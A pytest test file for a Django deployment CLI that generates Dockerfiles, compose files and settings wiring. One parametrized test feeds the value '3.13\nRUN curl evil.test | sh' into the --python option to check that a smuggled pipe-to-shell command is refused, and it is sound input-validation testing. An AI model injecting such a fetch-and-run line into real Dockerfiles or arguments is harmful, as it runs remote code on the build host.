def test_init_with_uv_lock_installs_the_locked_versions(project):
    (project / "pyproject.toml").write_text(
        PYPROJECT.replace("divio-settings[s3]==0.0.1", "divio-settings[postgres]").replace(
            '"django>=5.2",', '"django>=5.2", "gunicorn>=23",'
        )
    )
    (project / "uv.lock").write_text("version = 1\n")
    before = (project / "pyproject.toml").read_text()
    assert main(["init", str(project)]) == 0
    assert (project / "pyproject.toml").read_text() == before  # the lock would not know a change
    dockerfile = (project / "Dockerfile").read_text()
    assert "COPY pyproject.toml uv.lock /app/\n" in dockerfile
    assert "uv export --frozen --no-dev --no-emit-project" in dockerfile


def test_pyproject_without_tomllib_in_the_image_is_refused(project, capsys):
    (project / "pyproject.toml").write_text(PYPROJECT)
    assert main(["init", str(project), "--python", "3.10"]) == 1
    assert "needs Python 3.11 or later" in capsys.readouterr().err


def test_init_honours_settings_when_manage_py_names_none(project, capsys, monkeypatch):
    """A manage.py and wsgi.py that name no settings module (#36): init wires the module given
    by --settings (or DJANGO_SETTINGS_MODULE) and the image sets DJANGO_SETTINGS_MODULE, so
    the server boots."""
    for name in ("manage.py", "mysite/wsgi.py", "mysite/asgi.py"):
        path = project / name
        text = path.read_text()
        path.write_text(
            "\n".join(line for line in text.splitlines() if "DJANGO_SETTINGS_MODULE" not in line)
        )
    assert main(["init", str(project)]) == 1
    assert "manage.py does not name DJANGO_SETTINGS_MODULE" in capsys.readouterr().err
    assert main(["init", str(project), "--settings", "mysite.settings"]) == 0
    out = capsys.readouterr().out
    assert "settings module: mysite.settings (--settings)" in out
    assert "manage.py names no settings module" in out
    dockerfile = (project / "Dockerfile").read_text()
    assert "ENV DJANGO_SETTINGS_MODULE=mysite.settings" in dockerfile
    assert (
        (project / "mysite" / "settings.py")
        .read_text()
        .endswith("divio_settings.apply(globals())\n")
    )
    # The same through the environment, on a fresh copy of the files.
    (project / "Dockerfile").unlink()
    monkeypatch.setenv("DJANGO_SETTINGS_MODULE", "mysite.settings")
    assert main(["init", str(project), "--force"]) == 0
    assert "ENV DJANGO_SETTINGS_MODULE=mysite.settings" in (project / "Dockerfile").read_text()


def test_init_refuses_a_module_git_ignores(project, capsys):
    """The wired module ignored by git (#36): refused, naming it; a tracked one is wired."""
    local = project / "mysite" / "local.py"
    local.write_text("from .settings import *  # noqa\n")
    run_tool(["git", "init", "-q", str(project)])
    (project / ".gitignore").write_text("mysite/local.py\n")
    assert main(["init", str(project), "--settings", "mysite.local"]) == 1
    err = capsys.readouterr().err
    assert err == (
        "divio-settings: mysite/local.py is ignored by git, so what init writes there never "
        "reaches the image: wire a module the repository tracks (--settings MODULE)\n"
    )
    assert local.read_text() == "from .settings import *  # noqa\n"
    assert main(["init", str(project)]) == 0


def test_init_names_a_pin_the_library_cannot_install_beside(project, capsys):
    """A project's dj-database-url==2.2.0 (#36): the image's pip install would stop on it;
    init names the pin (in the file -r includes too) and writes nothing."""
    folder = project / "requirements"
    folder.mkdir()
    (folder / "base.txt").write_text("Django>=5.2\ndj_database_url==2.2.0  # old pin\n")
    (folder / "production.txt").write_text("-r base.txt\ngunicorn\n")
    before = {path: path.read_bytes() for path in project.rglob("*") if path.is_file()}
    assert main(["init", str(project)]) == 1
    assert capsys.readouterr().err == (
        "divio-settings: base.txt pins dj_database_url==2.2.0, but divio-settings needs "
        "dj-database-url<4,>=3.1: change that pin first\n"
    )
    assert {path: path.read_bytes() for path in project.rglob("*") if path.is_file()} == before
    (folder / "base.txt").write_text("Django>=5.2\ndj-database-url==3.1.0\npsycopg==3.2.1\n")
    assert main(["init", str(project)]) == 0


def test_init_names_what_the_project_s_own_docker_files_would_lose(project, capsys):
    """A Dockerfile and compose file in a subfolder (#36): init refuses, naming the build step
    and the process its files lack; with --force it writes and names them again."""
    docker = project / "docker"
    docker.mkdir()
    (docker / "Dockerfile").write_text(
        "FROM python:3.12\nRUN pip install -r requirements.txt\n"
        "RUN DJANGO_DEBUG=False \\\n    python manage.py compress --force\n"
        "RUN python manage.py collectstatic --noinput\n"
        "RUN curl -o /tmp/x https://deploy:tok3nsecret@files.example.com/x\n"
    )
    (docker / "compose.yml").write_text(
        "services:\n  web:\n    build: ..\n  worker:\n    command: celery -A mysite worker\n"
        "  db:\n    image: postgres\n"
    )
    (project / "node_modules" / "x").mkdir(parents=True)
    (project / "node_modules" / "x" / "Dockerfile").write_text("RUN make\n")
    assert main(["init", str(project)]) == 1
    err = capsys.readouterr().err
    assert err == (
        "divio-settings: the project's own Docker files have what the files init writes lack "
        "(docker/Dockerfile: RUN DJANGO_DEBUG=False python manage.py compress --force; "
        "docker/Dockerfile: RUN curl -o /tmp/x https://deploy:********@files.example.com/x; "
        "docker/compose.yml: service worker): carry them into the new Dockerfile and "
        "docker-compose.yml (see --dry-run), then run init with --force; or keep them with "
        "--keep-docker\n"
    )
    assert not (project / "Dockerfile").exists()
    assert main(["init", str(project), "--force"]) == 0
    out = capsys.readouterr().out
    assert "not carried over: docker/compose.yml: service worker" in out


@pytest.mark.parametrize("value", ["3.13\nRUN curl evil.test | sh", "3.13 AS x", "latest", "2.7"])
def test_init_python_is_a_version_and_nothing_else(value, tmp_path, capsys):
    """--python goes into the Dockerfile's FROM: a newline or anything but a version is wrong
    usage (exit 2), and nothing is written."""
    from divio_settings.cli import main

    assert main(["init", str(tmp_path), "--python", value]) == 2
    assert "expected a Python version such as 3.13" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []


def test_the_move_how_to_shows_what_release_commands_prints(tmp_path):
    """docs/how-to/move.md's release commands are the command's own for a cloud environment with
    S3 media and no CACHE_URL, read from an env file as the page says."""
    page = (ROOT / "docs" / "how-to" / "move.md").read_text()
    section = page.split("## 4. Set the release commands", 1)[1].split("## 5.", 1)[0]
    shown = section.split("```text\n", 1)[1].split("```", 1)[0].splitlines()
    env_file = tmp_path / ".env-cloud"
    env_file.write_text("".join(f"{name}={value}\n" for name, value in LIVE_ENV.items()))
    printed = run_cli("release-commands", "--env-file", str(env_file), env={}, cwd=tmp_path)
    assert printed.returncode == 0, printed.stderr
    assert printed.stdout.splitlines() == shown


def test_show_changes_says_what_changed_inside_and_names_a_variable_the_project_reads(project):
    """show --changes (#33, item 3): DATABASES and CACHES by key path, lists by items added and
    taken away, redacted; a settings module that reads a variable of its own the environment
    lacks is named, and --placeholders fills it."""
    assert main(["init", str(project)]) == 0
    settings = project / "mysite" / "settings.py"
    own = (
        "import os\nSECRET_KEY = os.environ['DJANGO_SECRET_KEY']\n"
        "DATABASES['default']['CONN_MAX_AGE'] = 60\n"
    )
    settings.write_text(
        settings.read_text().replace("import divio_settings", own + "import divio_settings")
    )
    env = {"DATABASE_URL": "postgres://u:Zq8dbPass55@db.example.com:5432/site"}
    refused = run_cli("show", str(project), "--changes", env=env)
    assert refused.returncode == 1
    assert refused.stderr == (
        "divio-settings: mysite.settings reads DJANGO_SECRET_KEY, which the environment does not "
        "set: set it, pass --env-file FILE (e.g. .env-local), or --placeholders to fill such "
        "variables with placeholder values\n"
    )
    shown = run_cli("show", str(project), "--changes", "--placeholders", env=env)
    assert shown.returncode == 0, shown.stderr
    assert shown.stderr == (
        "placeholder: DJANGO_SECRET_KEY=divio-settings-placeholder-DJANGO_SECRET_KEY\n"
    )
    lines = shown.stdout.splitlines()
    assert "DATABASES  <- DATABASE_URL" in lines
    assert "    DATABASES.default.CONN_MAX_AGE: 60 → 0" in lines
    assert '    DATABASES.default.HOST: "(not set)" → "db.example.com"' in lines
    assert '    DATABASES.default.PASSWORD: "(not set)" → "********"' in lines
    assert '    + "divio_settings"' in lines  # INSTALLED_APPS
    assert "Zq8dbPass55" not in shown.stdout + shown.stderr
    # An env file instead of placeholders.
    env_file = project / ".env-show"
    env_file.write_text("DJANGO_SECRET_KEY=from-the-file-0123456789\n")
    from_file = run_cli("show", str(project), "--changes", "--env-file", str(env_file), env=env)
    assert from_file.returncode == 0, from_file.stderr


def test_init_installs_what_the_requirements_need_to_build(project, capsys):
    """The slim image has no compiler or headers: a requirement that builds from source, in
    requirements.txt or a file it includes, gets its build packages (#33, item 8)."""
    (project / "requirements").mkdir()
    (project / "requirements" / "production.txt").write_text(
        "psycopg[c]==3.2.3  # C speed-ups\npython-ldap>=3.4\npsycopg2-binary\n"
    )
    (project / "requirements.txt").write_text("-r requirements/production.txt\nDjango>=5.2\n")
    assert main(["init", str(project)]) == 0
    dockerfile = (project / "Dockerfile").read_text()
    assert (
        "RUN apt-get update \\\n    && apt-get install -y --no-install-recommends "
        "build-essential libldap2-dev libpq-dev libsasl2-dev \\\n"
    ) in dockerfile
    # A wheel-only requirement adds nothing; the MySQL choice adds its own.
    (project / "requirements" / "production.txt").write_text("psycopg[binary]\n")
    assert main(["init", str(project), "--database", "mysql", "--force"]) == 0
    assert (
        "build-essential default-libmysqlclient-dev pkg-config \\"
        in (project / "Dockerfile").read_text()
    )


def test_the_image_gets_every_requirements_file_the_install_reads(project, capsys):
    """requirements.txt that says `-r requirements/production.txt` (#38, item 1): the image
    copies both, or pip stops at the missing include."""
    (project / "requirements").mkdir()
    (project / "requirements" / "base.txt").write_text("Django>=5.2\n")
    (project / "requirements" / "production.txt").write_text("-r base.txt\ngunicorn\n")
    (project / "requirements.txt").write_text("-r requirements/production.txt\n")
    assert main(["init", str(project)]) == 0
    dockerfile = (project / "Dockerfile").read_text()
    assert (
        "COPY requirements.txt /app/requirements.txt\n"
        "COPY requirements /app/requirements\n"
        "RUN pip install --no-cache-dir -r requirements.txt\n"
    ) in dockerfile


def test_init_writes_the_project_s_compose_file_under_its_own_name(project, capsys):
    """A project with compose.yaml (django CMS' quickstart) gets no second compose file
    (#38, item 5): init's file is written (or refused, or kept) under the project's name."""
    (project / "compose.yaml").write_text("services:\n  web:\n    build: .\n")
    assert main(["init", str(project)]) == 1
    assert "compose.yaml already exists and differs" in capsys.readouterr().err
    assert main(["init", str(project), "--force"]) == 0
    assert not (project / "docker-compose.yml").exists()
    assert "database_default:" in (project / "compose.yaml").read_text()
    assert (project / "compose.yaml.bak").read_text() == "services:\n  web:\n    build: .\n"


def test_json_output_stays_json_when_the_settings_print(project):
    """A settings module that prints (a banner, a debug line) writes to stderr while the
    command reads it: stdout is the JSON alone (#38, item 7)."""
    assert main(["init", str(project)]) == 0
    settings = project / "mysite" / "settings.py"
    settings.write_text("print('loading settings')\n" + settings.read_text())
    for args in (["show", str(project), "--json"], ["show", str(project), "--changes", "--json"]):
        result = run_cli(*args, env={})
        assert result.returncode == 0, result.stderr
        json.loads(result.stdout)
        assert "loading settings" in result.stderr


def test_init_wires_the_module_the_project_deploys_with(split_project, capsys):
    """manage.py and wsgi.py both load dev.py (as `wagtail start` writes them): init wires the
    package's production module, or the one the project's own Dockerfile names, never dev.py
    without a word; with only development modules it asks for --settings (#38, item 4)."""
    wsgi = split_project / "mysite" / "wsgi.py"
    wsgi.write_text(wsgi.read_text().replace("mysite.settings.production", "mysite.settings.dev"))
    assert main(["init", str(split_project), "--dry-run"]) == 0
    capsys.readouterr()
    staging = split_project / "mysite" / "settings" / "staging.py"
    staging.write_text("from .base import *  # noqa\n")
    (split_project / "Dockerfile").write_text(
        "FROM python:3.12\nENV DJANGO_SETTINGS_MODULE=mysite.settings.staging\nCOPY . /app\n"
    )
    local = split_project / "compose" / "local"  # the development image's: not what deploys
    local.mkdir(parents=True)
    (local / "Dockerfile").write_text("ENV DJANGO_SETTINGS_MODULE=mysite.settings.dev\n")
    assert main(["init", str(split_project), "--keep-docker"]) == 0
    assert "settings module: mysite.settings.staging (Dockerfile's)" in capsys.readouterr().out
    assert staging.read_text().rstrip().endswith("divio_settings.apply(globals())")
    (split_project / "Dockerfile").unlink()
    assert main(["init", str(split_project)]) == 0
    out = capsys.readouterr().out
    assert (
        "settings module: mysite.settings.production (the settings package's production module)"
        in out
    )
    (split_project / "mysite" / "settings" / "production.py").unlink()
    (split_project / "Dockerfile").unlink()
    assert main(["init", str(split_project)]) == 1
    assert capsys.readouterr().err == (
        "divio-settings: manage.py and the WSGI/ASGI entry point load mysite.settings.dev, a "
        "development module: name the module the project deploys with (--settings "
        "mysite.settings.production)\n"
    )


def test_gitignore_gets_only_what_the_project_s_settings_make(project):
    """django CMS' quickstart collects into staticfiles_collected and has no SQLite file: its
    .gitignore gets that folder, not the guide's /staticfiles or db.sqlite3 (#38, item 5)."""
    settings = project / "mysite" / "settings.py"
    settings.write_text(
        settings.read_text()
        + "\nSTATIC_ROOT = BASE_DIR / 'staticfiles_collected'\n"
        + "DATABASES = {'default': {'ENGINE': 'django.db.backends.postgresql', 'NAME': 'db'}}\n"
    )
    assert main(["init", str(project)]) == 0
    ignore = (project / ".gitignore").read_text().splitlines()
    assert "/staticfiles_collected" in ignore
    assert "/staticfiles" not in ignore
    assert "db.sqlite3" not in ignore
    assert {"/data", ".divio", "/data.tar.gz", "*.pyc"} <= set(ignore)  # the CLI's, Python's


def test_init_adds_django_contrib_postgres_where_wagtail_search_needs_it(project, capsys):
    """Wagtail's search index declares a GinIndex on PostgreSQL: migrate stops at postgres.E005
    without django.contrib.postgres. The move makes the database PostgreSQL, so init writes the
    app in, after apply() and only when the engine is PostgreSQL (#38: no hand edits)."""
    settings = project / "mysite" / "settings.py"
    settings.write_text(settings.read_text() + '\nINSTALLED_APPS += ["wagtail.search"]\n')
    assert main(["init", str(project), "--database", "mysql"]) == 0
    assert "django.contrib.postgres" not in settings.read_text()
    settings.write_text(settings.read_text().split("\nimport divio_settings")[0] + "\n")
    assert main(["init", str(project), "--force"]) == 0
    wired = settings.read_text().split("divio_settings.apply(globals())")[1]
    assert "wagtail.search needs django.contrib.postgres" in wired
    namespace: dict[str, object] = {
        "DATABASES": {"default": {"ENGINE": "django.db.backends.postgresql"}},
        "INSTALLED_APPS": ["wagtail.search"],
    }
    exec(wired, namespace)
    assert namespace["INSTALLED_APPS"] == ["wagtail.search", "django.contrib.postgres"]
    namespace = {
        "DATABASES": {"default": {"ENGINE": "django.db.backends.sqlite3"}},
        "INSTALLED_APPS": ["wagtail.search"],
    }
    exec(wired, namespace)
    assert namespace["INSTALLED_APPS"] == ["wagtail.search"]  # the build's SQLite: unchanged
    # A second init adds nothing; a project that has the app already gets no lines.
    assert main(["init", str(project)]) == 0
    assert settings.read_text().count("django.contrib.postgres") == 3
    settings.write_text(
        settings.read_text().split("\nimport divio_settings")[0]
        + '\nINSTALLED_APPS += ["django.contrib.postgres"]\n'
    )
    assert main(["init", str(project), "--force"]) == 0
    assert "written by divio-settings init" not in settings.read_text()


@pytest.mark.parametrize(
    ("storage", "extras"),
    [("s3", "postgres,s3"), ("azure", "azure,postgres"), ("none", "postgres")],
)
def test_init_pins_the_cloud_storage_s_extra(project, capsys, storage, extras):
    """Every Divio environment gets object storage (DEFAULT_STORAGE_DSN): the pin carries its
    extra, so that the image can use it without a hand edit (S3 unless told otherwise)."""
    assert main(["init", str(project), "--storage", storage]) == 0
    first = (project / "requirements.txt").read_text().splitlines()[0]
    assert first.startswith(f"divio-settings[{extras}]==")


def test_a_pin_that_conflicts_with_the_storage_extra_is_refused(project, capsys):
    """The storage extra goes into the pin, so its requirements' ranges count too: a project
    that pins boto3 below the s3 extra's range is told which pin to change (#38, item 3)."""
    (project / "requirements.txt").write_text("boto3==1.20.0\n")
    assert main(["init", str(project)]) == 1
    assert "pins boto3==1.20.0" in capsys.readouterr().err
    assert main(["init", str(project), "--storage", "none"]) == 0
